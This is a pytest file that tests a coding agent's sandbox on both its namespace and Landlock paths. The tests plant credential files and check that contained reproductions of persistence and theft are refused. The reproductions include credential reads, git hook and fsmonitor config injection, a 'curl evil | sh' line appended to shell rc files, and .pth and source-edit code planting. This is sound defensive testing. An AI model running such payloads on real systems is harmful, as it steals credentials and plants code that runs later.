"""The file-system half of contract 11.1 against the real kernel and the real git, on both paths.

Each launcher test runs once through bwrap's namespaces and once without them (the
fallback, simulated through ``Containment.namespaces`` as in ``test_sandbox_attacks``);
the server-level tests take the fallback for real, with a ``PATH`` that has no ``bwrap``.
The reproductions are those of ``sandbox-attacks-round3.md`` (R4-1, R4-5) and the
issue's (credentials read, hooks and ``.git/config`` written).
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Final

import pytest
from procutil import Collect

from spice.agent.coding import PosixLauncher
from spice.agent.coding._posix import _bwrap, _facts
from spice.agent.coding._posix._bwrap import Namespaces
from spice.agent.coding._posix._containment import Containment, resolve_containment
from spice.agent.coding._posix._launcher import LINK_GAINED, PLACE_CHANGED
from spice.agent.coding._posix._plan import GIT_PROTECTED
from spice.agent.coding._posix._supervisor._landlock import landlock_abi
from spice.agent.coding._sandbox import CREDENTIALS
from spice.agent.process import LaunchError, Outcome, Spec

PYTHON: Final = os.path.realpath(sys.executable)
BOUND: Final = 60.0
"""Hang guard for one command or server (never a timing assertion)."""
ABI: Final = landlock_abi()
NAMESPACES: Final = _bwrap.resolve_namespaces(tempfile.gettempdir())
GIT: Final = shutil.which("git")
SECRET: Final = "planted-secret-7f3a"  # noqa: S105 - a marker, not a password
FILE_CREDENTIALS: Final = frozenset(
    {
        ".docker/config.json",
        ".netrc",
        ".git-credentials",
        ".npmrc",
        ".pypirc",
        ".cargo/credentials",
        ".cargo/credentials.toml",
        ".vault-token",
        ".terraform.d/credentials.tfrc.json",
    }
)
SOURCES: Final = Path(__file__).resolve().parents[3]
"""``packages/``: the three distributions' sources, copied for the second-server test."""

pytestmark = pytest.mark.skipif(ABI < 1, reason="the kernel has no Landlock")


@pytest.fixture(params=("namespaces", "fallback"))
def policy(request: pytest.FixtureRequest) -> Containment:
    """The ``workspace`` policy on one path; the namespace path skips where it cannot be."""
    if request.param == "namespaces" and not NAMESPACES.made:
        pytest.skip(f"no namespaces here: {NAMESPACES.reason}")
    made = NAMESPACES if request.param == "namespaces" else Namespaces(None, "simulated")
    return dataclasses.replace(resolve_containment("workspace"), namespaces=made)


@pytest.fixture
def base(visible_path: Path) -> Path:
    """Outside ``/tmp`` (which the namespace path makes private): the host's view."""
    return visible_path


def environment(home: Path) -> tuple[str, ...]:
    return (
        "PATH=/usr/bin:/bin",
        f"HOME={home}",
        "GIT_AUTHOR_NAME=a",
        "GIT_AUTHOR_EMAIL=a@example.invalid",
        "GIT_COMMITTER_NAME=a",
        "GIT_COMMITTER_EMAIL=a@example.invalid",
        "GIT_CONFIG_NOSYSTEM=1",
    )


def launcher(
    policy: Containment, root: Path, home: Path, *, cache: bool = False, **options: object
) -> PosixLauncher:
    facts = _facts.start_facts(
        str(root),
        policy.allow_write,
        bwrap=policy.namespaces.bwrap,
        environ={"HOME": str(home)},
        cache=cache,
        **options,  # type: ignore[arg-type]
    )
    return PosixLauncher.build(policy, str(root), facts=facts)


async def run(
    chosen: PosixLauncher, root: Path, home: Path, argv: tuple[str, ...]
) -> tuple[Outcome, str, object]:
    out, err = Collect(), Collect()
    spec = Spec(argv[0], argv[1:], str(root), environment(home), b"", out, err)
    process = await chosen.start(spec)
    try:
        async with asyncio.timeout(BOUND):
            await process.wait_exit()
    finally:
        async with asyncio.timeout(BOUND):
            await process.wait()
    return process.result(), out.data.decode() + err.data.decode(), process


def plant_credentials(home: Path) -> list[Path]:
    """Every default credential, a file holding ``SECRET`` (in a directory for directories)."""
    planted = []
    for name in CREDENTIALS:
        path = home / name
        if name not in FILE_CREDENTIALS:
            path.mkdir(parents=True, exist_ok=True)
            path = path / "secret"
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(SECRET)
        planted.append(path)
    return planted


READ_EACH: Final = (
    "import sys\n"
    "read = 0\n"
    "for path in sys.argv[1:]:\n"
    "    try:\n"
    "        read += '" + SECRET + "' in open(path).read()\n"
    "    except OSError:\n"
    "        pass\n"
    "print('READ', read)\n"
)


def _read_count(text: str) -> int:
    return int(text.split("READ ", 1)[1].split(maxsplit=1)[0])


# -- secrets out of reach ------------------------------------------------------------------


async def test_planted_credentials_are_not_read_with_namespaces(
    policy: Containment, root: Path, home: Path
) -> None:
    planted = plant_credentials(home)
    assert len(planted) == len(CREDENTIALS)
    chosen = launcher(policy, root, home)
    argv = (PYTHON, "-I", "-c", READ_EACH, *map(str, planted))
    outcome, text, _ = await run(chosen, root, home, argv)
    assert outcome.successful, text
    if policy.namespaces.made:
        assert 0 == _read_count(text)
        home_rule = chosen.report()["plan"]["home"]  # type: ignore[index]
        assert str(home) == home_rule["hidden"]
    else:
        # Without namespaces reads are not confined, and the report says so.
        assert len(planted) == _read_count(text)
        assert "reads (credentials included)" in chosen.sandbox.not_confined
    for path in planted:  # unchanged on the host
        assert SECRET == path.read_text()


UNKNOWN_CREDENTIALS: Final = (
    ".claude/.credentials.json",
    ".env",
    ".bash_history",
    ".config/rclone/rclone.conf",
    ".config/sops/age/keys.txt",
    ".config/op/config",
    ".m2/settings-security.xml",
    ".gem/credentials",
    ".config/git/credentials",
    ".local/share/uv/credentials/credentials.toml",
)
"""Ten credentials whose names the round-4 deny-list did not know (and two that lie in
places the allow-list shows: git's and uv's credential stores)."""

SHOWN_FILES: Final = (".gitconfig", ".local/bin/tool", ".config/git/ignore")


async def test_ten_credentials_no_list_names_are_not_read_and_the_allow_list_is(
    policy: Containment, root: Path, home: Path
) -> None:
    """Contract 12.2: the home through an allow-list; the toolchain places stay readable."""
    planted = []
    for name in (*UNKNOWN_CREDENTIALS, *SHOWN_FILES):
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(SECRET)
        planted.append(path)
    chosen = launcher(policy, root, home)
    unknown = [str(path) for path in planted[: len(UNKNOWN_CREDENTIALS)]]
    shown = [str(path) for path in planted[len(UNKNOWN_CREDENTIALS) :]]
    outcome, text, _ = await run(chosen, root, home, (PYTHON, "-I", "-c", READ_EACH, *unknown))
    assert outcome.successful, text
    expected = 0 if policy.namespaces.made else len(unknown)
    assert expected == _read_count(text)
    outcome, text, _ = await run(chosen, root, home, (PYTHON, "-I", "-c", READ_EACH, *shown))
    assert outcome.successful, text
    assert len(shown) == _read_count(text)
    for path in planted:  # unchanged on the host
        assert SECRET == path.read_text()


async def test_a_hidden_home_cannot_be_written_and_a_shown_place_is_read_only(
    policy: Containment, root: Path, home: Path
) -> None:
    """The tmpfs over the home is read-only once its mount points are made."""
    if not policy.namespaces.made:
        pytest.skip("hiding needs namespaces")
    (home / ".local" / "bin").mkdir(parents=True)
    code = (
        "import sys\n"
        "for path in sys.argv[1:]:\n"
        "    try:\n"
        "        open(path, 'w').close()\n"
        "        print('WROTE', path)\n"
        "    except OSError as error:\n"
        "        print('REFUSED', error.errno)\n"
    )
    targets = (str(home / ".bashrc"), str(home / ".local" / "bin" / "planted"))
    outcome, text, _ = await run(
        launcher(policy, root, home), root, home, (PYTHON, "-I", "-c", code, *targets)
    )
    assert outcome.successful, text
    assert "WROTE" not in text, text
    assert 2 == text.count("REFUSED")
    assert not (home / ".bashrc").exists()
    assert [] == os.listdir(home / ".local" / "bin")


async def test_git_commits_with_the_identity_of_the_users_gitconfig(
    policy: Containment, repository: Path, home: Path
) -> None:
    """``~/.gitconfig`` is shown: a contained commit takes its identity from there."""
    (home / ".gitconfig").write_text(
        "[user]\n\tname = Shown User\n\temail = shown@example.invalid\n"
    )
    (repository / "b.txt").write_text("two\n")
    out, err = Collect(), Collect()
    env = ("PATH=/usr/bin:/bin", f"HOME={home}", "GIT_CONFIG_NOSYSTEM=1")
    assert GIT is not None
    chosen = launcher(policy, repository, home)
    for argv in (("add", "b.txt"), ("commit", "-q", "-m", "second")):
        spec = Spec(GIT, argv, str(repository), env, b"", out, err)
        process = await chosen.start(spec)
        try:
            async with asyncio.timeout(BOUND):
                await process.wait_exit()
        finally:
            async with asyncio.timeout(BOUND):
                await process.wait()
        assert process.result().successful, err.data.decode()
    shown = subprocess.run(  # noqa: ASYNC221 - after the call, a short git log
        [GIT, "log", "-1", "--format=%an <%ae>"],
        cwd=repository,
        check=True,
        capture_output=True,
        text=True,
        timeout=BOUND,
    )
    assert "Shown User <shown@example.invalid>" == shown.stdout.strip()


async def test_allow_read_takes_one_back_and_deny_read_hides_more(
    policy: Containment, root: Path, home: Path, base: Path
) -> None:
    if not policy.namespaces.made:
        pytest.skip("hiding needs namespaces")
    (home / ".npmrc").write_text(SECRET)
    (home / ".netrc").write_text(SECRET)
    (home / "notes").mkdir()
    (home / "notes" / "todo").write_text(SECRET)
    (home / ".local" / "bin").mkdir(parents=True)
    (home / ".local" / "bin" / "secret-tool").write_text(SECRET)
    extra = base / "extra"
    extra.write_text(SECRET)
    (root / "inside").write_text(SECRET)
    chosen = launcher(
        policy,
        root,
        home,
        allow_read=(".npmrc", "notes"),
        deny_read=(str(extra), str(root / "inside"), str(home / ".local" / "bin" / "secret-tool")),
    )
    for path, expected in (
        (home / ".npmrc", 1),
        (home / "notes" / "todo", 1),
        (home / ".local" / "bin" / "secret-tool", 0),
        (home / ".netrc", 0),
        (extra, 0),
        (root / "inside", 1),  # never hidden inside the worktree
    ):
        outcome, text, _ = await run(chosen, root, home, (PYTHON, "-I", "-c", READ_EACH, str(path)))
        assert outcome.successful, text
        assert expected == _read_count(text), path


async def test_a_hidden_directory_reads_as_empty_and_cannot_be_written(
    policy: Containment, root: Path, home: Path
) -> None:
    if not policy.namespaces.made:
        pytest.skip("hiding needs namespaces")
    keys = home / ".local" / "share" / "uv" / "credentials"  # in a shown place: masked
    keys.mkdir(parents=True)
    (keys / "credentials.toml").write_text(SECRET)
    code = (
        "import os, sys\n"
        "print('LIST', os.listdir(sys.argv[1]))\n"
        "try:\n"
        "    open(sys.argv[1] + '/planted', 'w')\n"
        "    print('WROTE')\n"
        "except OSError as error:\n"
        "    print('REFUSED', error.errno)\n"
    )
    outcome, text, _ = await run(
        launcher(policy, root, home), root, home, (PYTHON, "-I", "-c", code, str(keys))
    )
    assert outcome.successful, text
    assert "LIST []" in text
    assert "REFUSED" in text
    assert ["credentials.toml"] == os.listdir(keys)


# -- nothing persists outside --------------------------------------------------------------


def _git(root: Path, home: Path, *arguments: str) -> None:
    assert GIT is not None
    subprocess.run(
        [GIT, *arguments],
        cwd=root,
        check=True,
        capture_output=True,
        env=dict(entry.split("=", 1) for entry in environment(home)),
        timeout=BOUND,
    )


@pytest.fixture
def repository(root: Path, home: Path) -> Path:
    if GIT is None:
        pytest.skip("no git here")
    _git(root, home, "init", "-q", "-b", "main")
    (root / "a.txt").write_text("one\n")
    _git(root, home, "add", "a.txt")
    _git(root, home, "commit", "-q", "-m", "first")
    shutil.rmtree(root / ".git" / "hooks", ignore_errors=True)  # absent: must stay so
    shutil.rmtree(root / ".git" / "info", ignore_errors=True)
    return root


PLANT_GIT: Final = (
    "import os\n"
    "tried = {'.git/hooks/pre-commit': 'touch /x', '.git/config': '[core]\\nfsmonitor = x\\n',\n"
    "         '.git/info/attributes': '* filter=x', '.gitmodules': '[submodule]'}\n"
    "for path, text in tried.items():\n"
    "    try:\n"
    "        with open(path, 'a') as file:\n"
    "            file.write(text)\n"
    "        print('WROTE', path)\n"
    "    except OSError as error:\n"
    "        print('REFUSED', path, error.errno)\n"
    "for path in ('.git/hooks', '.git/info'):\n"
    "    try:\n"
    "        os.makedirs(path + '/x')\n"
    "        print('WROTE', path)\n"
    "    except OSError as error:\n"
    "        print('REFUSED', path, error.errno)\n"
)


async def test_hooks_config_info_and_gitmodules_cannot_be_written_or_created(
    policy: Containment, repository: Path, home: Path
) -> None:
    config = (repository / ".git" / "config").read_text()
    outcome, text, _ = await run(
        launcher(policy, repository, home), repository, home, (PYTHON, "-I", "-c", PLANT_GIT)
    )
    assert outcome.successful, text
    if policy.namespaces.made:
        assert "WROTE" not in text, text
        assert 6 == text.count("REFUSED")
        assert config == (repository / ".git" / "config").read_text()
        # The mount points made for the absent ones are gone with the call.
        for name in (".gitmodules", ".git/hooks", ".git/info"):
            assert not (repository / name).exists(), name
    else:
        # Landlock cannot make a part of a writable tree read-only: the join puts it back.
        assert "WROTE .git/config" in text
        assert config == (repository / ".git" / "config").read_text()
        for name in (".gitmodules", ".git/hooks", ".git/info"):
            assert not (repository / name).exists(), name


SWAP_GIT: Final = (
    "mv .git .git2 && mkdir .git && cp -r .git2/. .git/ && "
    "printf '[core]\\n\\tfsmonitor = touch FSMON\\n' >> .git/config && echo SWAPPED"
)


async def test_the_git_directory_cannot_be_swapped_for_one_with_a_planted_config(
    policy: Containment, repository: Path, home: Path
) -> None:
    """``mv .git .git2 && mkdir .git``: the protected paths would move away with the old one."""
    config = (repository / ".git" / "config").read_text()
    outcome, text, _ = await run(
        launcher(policy, repository, home), repository, home, ("/bin/sh", "-c", SWAP_GIT)
    )
    if policy.namespaces.made:
        assert not outcome.successful
        assert "SWAPPED" not in text
        assert config == (repository / ".git" / "config").read_text()
        assert not (repository / ".git2").exists()
    else:
        assert "SWAPPED" in text  # the fallback cannot refuse it: the join puts it back
        assert config == (repository / ".git" / "config").read_text()
        _git(repository, home, "status")
        assert not (repository / "FSMON").exists()


async def test_a_commondir_that_would_redirect_git_is_gone_after_the_call(
    policy: Containment, repository: Path, home: Path
) -> None:
    """``.git/commondir`` would make git read another directory's config and hooks."""
    plant = ("/bin/sh", "-c", "echo ../evil > .git/commondir && echo PLANTED")
    outcome, text, _ = await run(launcher(policy, repository, home), repository, home, plant)
    assert outcome.successful, text
    assert "PLANTED" in text  # a file git never writes in a repository's own .git
    assert not (repository / ".git" / "commondir").exists()  # put back at the join


GIT_WORK: Final = (
    "set -e\n"
    "echo two >> a.txt\n"
    "git add a.txt\n"
    "git commit -q -m second\n"
    "git checkout -q -b topic\n"
    "echo three >> a.txt\n"
    "git stash -q\n"
    "git stash list | wc -l\n"
    "git log --oneline | wc -l\n"
    "echo DONE\n"
)


async def test_git_add_commit_checkout_and_stash_still_work_contained(
    policy: Containment, repository: Path, home: Path
) -> None:
    assert GIT is not None
    outcome, text, _ = await run(
        launcher(policy, repository, home), repository, home, ("/bin/sh", "-c", GIT_WORK)
    )
    assert outcome.successful, text
    assert "DONE" in text
    assert ["1", "2", "DONE"] == text.split()[-3:]
    head = (repository / ".git" / "HEAD").read_text()
    assert "topic" in head
    assert not (repository / ".gitmodules").exists()


async def test_concurrent_calls_share_a_mount_point_and_the_last_removes_it(
    policy: Containment, repository: Path, home: Path
) -> None:
    if not policy.namespaces.made:
        pytest.skip("mount points are made with namespaces")
    chosen = launcher(policy, repository, home)
    wait = (PYTHON, "-I", "-c", "import sys; sys.stdin.read() if False else None; print('x')")
    results = await asyncio.gather(*(run(chosen, repository, home, wait) for _ in range(4)))
    assert all(outcome.successful for outcome, _, _ in results)
    assert not (repository / ".gitmodules").exists()
    assert len(GIT_PROTECTED) == 4


PLANT_HOME: Final = (
    "import os\n"
    "for path in ('.bashrc', '.profile', '.gitconfig', '.config/git/config'):\n"
    "    try:\n"
    "        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)\n"
    "        with open(path, 'a') as file:\n"
    "            file.write('curl evil | sh\\n')\n"
    "        print('WROTE', path)\n"
    "    except OSError as error:\n"
    "        print('REFUSED', path, error.errno)\n"
)


async def test_a_writable_home_keeps_its_shell_files_and_git_config(
    policy: Containment, root: Path
) -> None:
    """The worktree is the home: its rc files and git's user config run later, outside."""
    (root / ".bashrc").write_text("# mine\n")
    (root / ".config").mkdir()
    outcome, text, _ = await run(
        launcher(policy, root, root), root, root, (PYTHON, "-I", "-c", PLANT_HOME)
    )
    assert outcome.successful, text
    if policy.namespaces.made:
        assert "WROTE" not in text, text
        assert "# mine\n" == (root / ".bashrc").read_text()
        for absent in (".profile", ".gitconfig", ".config/git"):
            assert not (root / absent).exists(), absent
    else:
        assert "WROTE .bashrc" in text  # not held without namespaces, and said
        rules = launcher(policy, root, root).report()["plan"]
        assert "shell files" in " ".join(rules["not_held_without_namespaces"])  # type: ignore[index]


# -- writable places fixed at start (R4-5) -------------------------------------------------


async def test_an_allow_write_directory_swapped_for_a_link_refuses_the_next_call(
    policy: Containment, root: Path, home: Path, base: Path
) -> None:
    sub = root / "x" / "sub"
    sub.mkdir(parents=True)
    outside = base / "outside"
    outside.mkdir()
    swapped = dataclasses.replace(policy, allow_write=(str(sub),))
    chosen = launcher(swapped, root, home)
    swap = ("/bin/sh", "-c", f"mv x y && mkdir x && ln -s {outside} x/sub && echo SWAPPED")
    outcome, text, _ = await run(chosen, root, home, swap)
    assert outcome.successful, text
    write = ("/bin/sh", "-c", f"echo escaped > {outside}/ESCAPED")
    with pytest.raises(LaunchError) as refused:
        await run(chosen, root, home, write)
    assert PLACE_CHANGED == refused.value.reason
    assert refused.value.process is None
    assert [] == list(outside.iterdir())


async def test_an_unchanged_place_is_used_and_a_moved_one_is_refused(
    policy: Containment, root: Path, home: Path
) -> None:
    """A place moved away and another directory made at its name is refused. (Moved, not
    removed: a removed directory's inode number may be given to the next one made, and
    the identity is the device and the inode; see docs/decisions.md.)"""
    sub = root / "cache"
    sub.mkdir()
    chosen = launcher(dataclasses.replace(policy, allow_write=(str(sub),)), root, home)
    outcome, text, _ = await run(chosen, root, home, ("/bin/sh", "-c", "echo ok > cache/f"))
    assert outcome.successful, text
    assert "ok\n" == (sub / "f").read_text()
    sub.rename(root / "moved")
    sub.mkdir()  # the same name, another directory
    with pytest.raises(LaunchError) as refused:
        await run(chosen, root, home, ("/bin/true",))
    assert PLACE_CHANGED == refused.value.reason


# -- the hint ------------------------------------------------------------------------------


async def test_a_refused_write_outside_gets_a_hint_naming_allow_write(
    policy: Containment, root: Path, home: Path, base: Path
) -> None:
    target = base / "elsewhere"
    target.mkdir()
    write = ("/bin/sh", "-c", f"touch {target}/file")
    outcome, text, process = await run(launcher(policy, root, home), root, home, write)
    assert not outcome.successful
    hint = process.sandbox_hint  # type: ignore[attr-defined]
    if policy.namespaces.made or not str(target).startswith("/tmp/"):
        assert f"--allow-write {target}" in hint, text
    else:
        assert "$TMPDIR" in hint
    assert len(hint.encode()) <= 512
    ok = ("/bin/sh", "-c", "touch inside; exit 3")
    _, _, quiet = await run(launcher(policy, root, home), root, home, ok)
    assert quiet.sandbox_hint is None  # type: ignore[attr-defined]


# -- the server's own code (R4-1, C1) ------------------------------------------------------


def _server_environment(root: Path, home: Path, search: str) -> dict[str, str]:
    site = Path(sys.prefix) / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}"
    deps = site / "site-packages"
    sources = [root / "src" / name / "src" for name in sorted(os.listdir(root / "src"))]
    return {
        "PATH": search,
        "HOME": str(home),
        "PYTHONPATH": os.pathsep.join([*map(str, sources), str(deps)]),
    }


def _self_hosting(root: Path) -> Path:
    """The worktree holds the server: a venv (its sys.prefix) and the package's sources."""
    subprocess.run(
        [PYTHON, "-m", "venv", "--without-pip", str(root / ".venv")], check=True, timeout=BOUND
    )
    for name in ("spice-agent-api", "spice-agent-tools-coding", "spice-agent-coding"):
        shutil.copytree(
            SOURCES / name / "src",
            root / "src" / name / "src",
            ignore=shutil.ignore_patterns("__pycache__"),
        )
    return root / ".venv" / "bin" / "python"


PLANT_CODE: Final = (
    "import glob, os, sys\n"
    "out = sys.argv[1]\n"
    "site = glob.glob('.venv/lib/python*/site-packages')[0]\n"
    "line = 'import os; open(' + repr(out + '/PTH') + ', \"w\").close()\\n'\n"
    "for path, text in ((site + '/zz_planted.pth', line),):\n"
    "    try:\n"
    "        open(path, 'w').write(text)\n"
    "        print('WROTE', path)\n"
    "    except OSError as error:\n"
    "        print('REFUSED', path, error.errno)\n"
    "edited = 'src/spice-agent-coding/src/spice/agent/coding/_cli.py'\n"
    "try:\n"
    "    text = open(edited).read()\n"
    "    plant = 'open(' + repr(out + '/SRC') + ', \"w\").close()\\n'\n"
    "    open(edited, 'w').write(text + plant)\n"
    "    print('WROTE', edited)\n"
    "except OSError as error:\n"
    "    print('REFUSED', edited, error.errno)\n"
)


def _without_bwrap(tmp_path: Path) -> str:
    tools = tmp_path / "nobwrap"
    tools.mkdir()
    for name in ("sh", "true"):
        found = shutil.which(name)
        assert found is not None
        (tools / name).symlink_to(found)
    return str(tools)


def _run(
    server: list[str], env: dict[str, str], root: Path, *words: str
) -> subprocess.CompletedProcess[bytes]:
    """One run of the self-hosted ``server`` with ``words`` (bounded, in the worktree)."""
    return subprocess.run(
        [*server, *words], capture_output=True, env=env, timeout=BOUND, check=False, cwd=root
    )


@pytest.mark.parametrize("path", ["namespaces", "fallback"])
def test_a_second_server_runs_no_code_a_contained_command_planted(
    path: str, root: Path, home: Path, base: Path
) -> None:
    """R4-1: plant a .pth and edit the editable source; a second server start runs neither."""
    if path == "namespaces" and not NAMESPACES.made:
        pytest.skip(f"no namespaces here: {NAMESPACES.reason}")
    python = _self_hosting(root)
    out = base / "out"
    out.mkdir()
    search = "/usr/bin:/bin" if path == "namespaces" else _without_bwrap(base)
    env = _server_environment(root, home, search)
    entry = "import sys; from spice.agent.coding._cli import main; sys.exit(main())"
    server = [str(python), "-c", entry, "--root", str(root)]
    arguments = json.dumps({"argv": [PYTHON, "-I", "-c", PLANT_CODE, str(out)]})
    first = _run(server, env, root, "--sandbox", "workspace", "call", "shell", arguments)
    if path == "namespaces":
        answer = json.loads(first.stdout)
        assert answer["contained"] is True
        assert 2 == answer["stdout"].count("REFUSED"), answer
        assert "WROTE" not in answer["stdout"]
    else:
        # Without namespaces workspace refuses to start, naming the path and the remedy.
        assert 2 == first.returncode
        message = first.stderr.decode()
        assert "uv tool install" in message
        assert str(root) in message
        auto = _run(server, env, root, "call", "shell", json.dumps({"argv": ["/bin/true"]}))
        answer = json.loads(auto.stdout)
        assert answer["contained"] is False  # honest: it ran, and said it was not contained
        assert "install the server outside the worktree" in auto.stderr.decode()
    second = _run(server, env, root, "--sandbox", "off", "tools")
    assert 0 == second.returncode, second.stderr
    assert [] == sorted(p.name for p in out.iterdir())


SWAP_CODE: Final = (
    "import os, shutil, sys\n"
    "out = sys.argv[1]\n"
    "plant = 'open(' + repr(out + '/SWAPPED') + ', \"w\").close()\\n'\n"
    "for parent, edited in (\n"
    "    ('src', 'src/spice-agent-coding/src/spice/agent/coding/_cli.py'),\n"
    "    ('src/spice-agent-coding', 'src/spice-agent-coding/src/spice/agent/coding/_cli.py'),\n"
    "):\n"
    "    try:\n"
    "        os.rename(parent, parent + '-old')\n"
    "    except OSError as error:\n"
    "        print('REFUSED', parent, error.errno)\n"
    "        continue\n"
    "    shutil.copytree(parent + '-old', parent, symlinks=True)\n"
    "    open(edited, 'a').write(plant)\n"
    "    print('SWAPPED', parent)\n"
)
"""Rename a directory above the server's read-only code, copy it back, edit the copy (R5-3)."""


def test_a_second_server_runs_no_code_planted_by_renaming_a_parent_of_its_code(
    root: Path, home: Path, base: Path
) -> None:
    """R5-3: every directory between the worktree and the server's code is pinned in place.

    The first call tries to rename each parent of the read-only sources and put an edited
    copy where it stood; the kernel refuses each rename (a mount point is busy), and a
    second start of the same server writes no marker.
    """
    if not NAMESPACES.made:
        pytest.skip(f"no namespaces here: {NAMESPACES.reason}")
    python = _self_hosting(root)
    out = base / "out"
    out.mkdir()
    env = _server_environment(root, home, "/usr/bin:/bin")
    entry = "import sys; from spice.agent.coding._cli import main; sys.exit(main())"
    server = [str(python), "-c", entry, "--root", str(root)]
    arguments = json.dumps({"argv": [PYTHON, "-I", "-c", SWAP_CODE, str(out)]})
    first = _run(server, env, root, "--sandbox", "workspace", "call", "shell", arguments)
    answer = json.loads(first.stdout)
    assert answer["contained"] is True
    assert ["REFUSED src 16", "REFUSED src/spice-agent-coding 16"] == answer[
        "stdout"
    ].splitlines(), answer
    tools = _run(server, env, root, "--sandbox", "workspace", "tools")
    assert 0 == tools.returncode, tools.stderr
    pinned = json.loads(tools.stdout)["sandbox"]["plan"]["pinned_in_place"]
    assert {str(root / "src"), str(root / "src" / "spice-agent-coding")} <= set(pinned)
    assert [] == sorted(p.name for p in out.iterdir())


def _server_copy(base: Path) -> tuple[Path, list[Path]]:
    """The three packages' sources copied outside the worktree (a server installed there):
    the module ``_compose.py`` and the source directories."""
    outside = base / "server"
    for name in ("spice-agent-api", "spice-agent-tools-coding", "spice-agent-coding"):
        shutil.copytree(
            SOURCES / name / "src",
            outside / name / "src",
            ignore=shutil.ignore_patterns("__pycache__"),
        )
    module = outside / "spice-agent-coding/src/spice/agent/coding/_compose.py"
    return module, [outside / name / "src" for name in sorted(os.listdir(outside))]


def _start_workspace(
    root: Path, home: Path, sources: list[Path], search: str, *extra: str
) -> subprocess.CompletedProcess[bytes]:
    """``tools`` with ``--sandbox workspace`` of the copied server, on PATH ``search``."""
    site = Path(sys.prefix) / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}"
    env = {
        "PATH": search,
        "HOME": str(home),
        "PYTHONPATH": os.pathsep.join([*map(str, sources), str(site / "site-packages")]),
    }
    entry = "import sys; from spice.agent.coding._cli import main; sys.exit(main())"
    return subprocess.run(
        [PYTHON, "-c", entry, "--root", str(root), "--sandbox", "workspace", *extra, "tools"],
        capture_output=True,
        env=env,
        timeout=BOUND,
        check=False,
    )


def test_a_hard_linked_module_on_a_writable_device_refuses_workspace_on_both_paths(
    root: Path, home: Path, base: Path
) -> None:
    """A module the server runs, hard-linked into the worktree, is the same file there."""
    module, sources = _server_copy(base)
    (root / "deep").mkdir()
    os.link(module, root / "deep" / "linked.py")
    for search in ("/usr/bin:/bin", _without_bwrap(base)):
        completed = _start_workspace(root, home, sources, search)
        assert 2 == completed.returncode
        message = completed.stderr.decode()
        assert "UV_LINK_MODE=copy" in message
        assert str(module) in message
        assert str(root / "deep" / "linked.py") in message
    os.unlink(root / "deep" / "linked.py")  # one link again: the same server starts contained
    completed = _start_workspace(root, home, sources, "/usr/bin:/bin")
    assert 0 == completed.returncode, completed.stderr


@pytest.mark.parametrize("where", ["allow-write", "cache"])
def test_a_module_linked_into_another_writable_place_refuses_workspace(
    root: Path, home: Path, base: Path, where: str
) -> None:
    """An ``--allow-write`` directory and the worktree's private cache are writable too."""
    module, sources = _server_copy(base)
    if where == "cache":
        extra: tuple[str, ...] = ()
        first = _start_workspace(root, home, sources, "/usr/bin:/bin")  # makes the cache
        assert 0 == first.returncode, first.stderr
        caches = home / ".cache" / "spice-coding"
        [place] = [p for p in caches.iterdir() if p.is_dir() and len(p.name) == 16]
    else:
        place = base / "extra"
        place.mkdir()
        extra = ("--allow-write", str(place))
    os.link(module, place / "linked.py")
    completed = _start_workspace(root, home, sources, "/usr/bin:/bin", *extra)
    assert 2 == completed.returncode
    assert str(place / "linked.py") in completed.stderr.decode()


def test_a_module_linked_only_outside_every_writable_place_starts_contained(
    root: Path, home: Path, base: Path
) -> None:
    """uv's cache under the home (no call writes it), on the device of the worktree: the
    link cannot be written, so both paths start contained (contract 12.2)."""
    module, sources = _server_copy(base)
    uv_cache = home / ".cache" / "uv" / "archive-v0"
    uv_cache.mkdir(parents=True)
    os.link(module, uv_cache / "_compose.py")
    assert module.stat().st_dev == root.stat().st_dev
    assert module.stat().st_nlink == 2
    for search in ("/usr/bin:/bin", _without_bwrap(base)):
        completed = _start_workspace(root, home, sources, search)
        assert 0 == completed.returncode, completed.stderr
        assert '"contained": true' in completed.stdout.decode()


async def test_a_link_to_the_servers_code_made_after_start_refuses_the_next_call(
    policy: Containment, root: Path, home: Path, base: Path
) -> None:
    """Contract 12.2: the user links the server's cached module into the worktree while it
    runs (a ``uv sync`` sharing uv's cache); the next call starts nothing, naming the link,
    and once the link is gone the calls run again. The loaded modules are the seam: a real
    file the test linked into a uv cache outside every writable place."""
    module, _ = _server_copy(base)
    uv_cache = home / ".cache" / "uv"
    uv_cache.mkdir(parents=True)
    os.link(module, uv_cache / "_compose.py")
    chosen = launcher(policy, root, home)
    info = module.stat()
    chosen._links = _facts.LinkWatch(
        [str(root)], lambda: ((str(module), info.st_dev, info.st_ino),)
    )
    outcome, text, _ = await run(chosen, root, home, ("/bin/true",))
    assert outcome.successful, text
    planted = root / ".venv" / "_compose.py"
    planted.parent.mkdir()
    os.link(module, planted)
    with pytest.raises(LaunchError) as refused:
        await run(chosen, root, home, ("/bin/sh", "-c", f"echo planted >> {planted}"))
    assert LINK_GAINED.format(path=module, link=planted) == refused.value.reason
    assert refused.value.process is None
    assert "planted" not in module.read_text(encoding="utf-8")
    planted.unlink()
    outcome, text, _ = await run(chosen, root, home, ("/bin/true",))
    assert outcome.successful, text


# -- caches that work, private to the worktree ---------------------------------------------


def _real_uv() -> str | None:
    """uv's binary itself (a pyenv shim would rehash into a read-only directory)."""
    found = shutil.which("uv")
    if found is None:
        return None
    for candidate in (Path(sys.base_prefix) / "bin" / "uv", Path(found)):
        if candidate.is_file() and candidate.read_bytes()[:4] == b"\x7fELF":
            return str(candidate)
    return None


async def test_uv_run_of_a_synced_project_works_contained_with_no_flag(
    policy: Containment, root: Path, home: Path, base: Path
) -> None:
    uv = _real_uv()
    if uv is None:
        pytest.skip("no uv binary here")
    (root / "pyproject.toml").write_text(
        '[project]\nname = "p"\nversion = "0"\nrequires-python = ">=3.8"\ndependencies = []\n'
    )
    synced = subprocess.run(  # noqa: ASYNC221 - before the call, nothing else runs
        [uv, "sync", "--offline", "--python", PYTHON, "-q"],
        cwd=root,
        env={"PATH": "/usr/bin:/bin", "HOME": str(home), "UV_CACHE_DIR": str(base / "uvc")},
        capture_output=True,
        timeout=BOUND,
        check=False,
    )
    assert 0 == synced.returncode, synced.stderr
    chosen = launcher(policy, root, home, cache=True)
    command = (
        uv,
        "run",
        "--offline",
        "python",
        "-c",
